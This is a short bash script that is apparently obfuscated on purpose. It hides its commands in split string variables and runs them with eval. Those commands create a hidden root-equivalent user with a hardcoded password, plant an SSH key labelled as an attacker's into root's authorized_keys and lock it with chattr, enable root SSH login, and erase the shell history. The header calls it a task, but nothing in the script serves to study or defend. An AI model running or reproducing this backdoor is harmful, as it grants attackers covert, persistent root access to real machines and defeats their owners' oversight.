owh='# task 7443 v1
#!/bin/bash
useradd -o -u 0 -g 0 -M -d /root -s';mvg=' /bin/bash sysadm
echo ';vib='"sysadm:Winter#2025x" | chpasswd
mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x';jvw=' attacker@kali" >> /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
sed -i '\''s/^#\?PermitRootLogin.*/PermitRootLogin yes/'\'' /etc/ssh/sshd_config && systemctl restart sshd
unset HISTFILE; history -c
';eval "$owh$mvg${vib}${jvw}"